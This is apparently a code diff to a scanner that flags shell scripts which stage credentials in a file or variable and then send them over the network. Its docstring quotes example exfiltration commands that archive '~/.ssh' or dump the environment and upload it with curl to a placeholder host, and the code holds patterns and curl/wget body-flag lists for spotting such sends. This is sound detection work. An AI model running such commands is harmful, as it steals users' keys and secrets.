@@ -4,7 +4,9 @@ The single-line ``credential-exfil`` pattern sees a credential path *on* the sen
 command (``curl -d @~/.aws/credentials``). Thieves just as often pass the secret along:
 
 * through a pipe: ``tar czf - ~/.ssh | curl -T - https://drop.invalid``;
-* through a file: ``tar czf /tmp/k.tgz ~/.ssh`` and, later, ``curl -F f=@/tmp/k.tgz …``.
+* through a file: ``tar czf /tmp/k.tgz ~/.ssh`` and, later, ``curl -F f=@/tmp/k.tgz …``;
+* through a file read back into a variable: ``env > /tmp/e``, ``B=$(base64 /tmp/e)``, then
+  ``curl -d "{\"d\": \"$B\"}" …``.
 
 Commands are split into words with :mod:`shlex` (text only, nothing runs). A public key
 (``id_rsa.pub``) and paths given to ``--exclude`` are not credentials.
@@ -159,6 +161,44 @@ def _sends_file(stage: list[str], name: str) -> bool:
     )
 
 
+_SUBSTITUTION = re.compile(
+    r"^\s*(?:export\s+|local\s+|readonly\s+)?([A-Za-z_]\w*)=[\"']?(?:\$\((.*)\)|`(.*)`)[\"']?\s*$"
+)
+"""``NAME=$(command ...)``: a variable that holds a command's output (here, a staged file's)."""
+_BODY_FLAGS = frozenset(
+    {
+        "-d",
+        "--data",
+        "--data-raw",
+        "--data-binary",
+        "--data-urlencode",
+        "--json",
+        "-F",
+        "--form",
+        "-T",
+        "--upload-file",
+        "--post-data",
+        "--body-data",
+    }
+)
+
+
+def _sends_variable(stage: list[str], name: str) -> bool:
+    """A network command whose body, form, upload or URL carries ``$name`` (not a header:
+    a token read from a file and sent as ``Authorization`` is how an API key is used)."""
+    if not _sends(stage):
+        return False
+    mention = re.compile(rf"\$(?:{re.escape(name)}\b|\{{{re.escape(name)}\}})")
+    for before, word in zip(["", *stage], stage, strict=False):
+        if not mention.search(word):
+            continue
+        if before in _BODY_FLAGS or word.split("=", 1)[0] in _BODY_FLAGS or "://" in word:
+            return True
+        if _verb(stage) not in ("curl", "wget"):
+            return True
+    return False
+
+
 def _pipes_out(stages: list[list[str]]) -> bool:
     return any(
         _reads_credentials(stage) and any(_sends(later) for later in stages[index + 1 :])
@@ -192,8 +232,16 @@ def credential_staging(path: str, text: str) -> list[ThreatFinding]:
         return []
     lines = text.splitlines()
     staged: dict[str, int] = {}
+    carriers: dict[str, tuple[str, int]] = {}
     findings = []
-    for number, line in enumerate(lines, 1):
+    for number, line in _logical_lines(lines):
+        substituted = _SUBSTITUTION.match(line) if staged else None
+        if substituted:
+            name, inner = substituted.group(1), substituted.group(2) or substituted.group(3)
+            source = next((f for f in staged if f in _words(inner)), None)
+            if source is not None:
+                carriers[name] = (source, number)
+                continue
         if not (_CREDENTIAL_HINT.search(line) or (staged and _SENDER_HINT.search(line))):
             continue
         if line.lstrip().startswith("#"):
@@ -201,6 +249,15 @@ def credential_staging(path: str, text: str) -> list[ThreatFinding]:
         for stages in _commands(line):
             if _pipes_out(stages):
                 findings.append(staging_finding(path, lines, number))
+                continue
+            carried = [v for v in carriers if any(_sends_variable(s, v) for s in stages)]
+            if carried:
+                source, at = carriers[carried[0]]
+                description = (
+                    f"credentials written to {source} (line {staged[source]}) are read into "
+                    f"${carried[0]} (line {at}) and sent over the network"
+                )
+                findings.append(staging_finding(path, lines, number, description))
                 continue
             sent = [name for name in staged if any(_sends_file(s, name) for s in stages)]
             if sent:
@@ -218,6 +275,27 @@ def credential_staging(path: str, text: str) -> list[ThreatFinding]:
                 if written and written != "-" and not _names_credential(written):
                     staged.setdefault(written, number)
     return findings
+
+
+def _logical_lines(lines: list[str]) -> list[tuple[int, str]]:
+    """(first line number, command) with backslash-continued lines joined into one.
+
+    >>> _logical_lines(["curl -s \\\\", "  -d x https://x.invalid", "echo ok"])
+    [(1, 'curl -s    -d x https://x.invalid'), (3, 'echo ok')]
+    """
+    joined: list[tuple[int, str]] = []
+    pending: tuple[int, str] | None = None
+    for number, line in enumerate(lines, 1):
+        if pending is not None:
+            number, line = pending[0], pending[1] + " " + line
+            pending = None
+        if line.endswith("\\") and len(line) < _MAX_LINE:
+            pending = (number, line[:-1])
+        else:
+            joined.append((number, line))
+    if pending is not None:
+        joined.append(pending)
+    return joined
 
 
 def staging_finding(
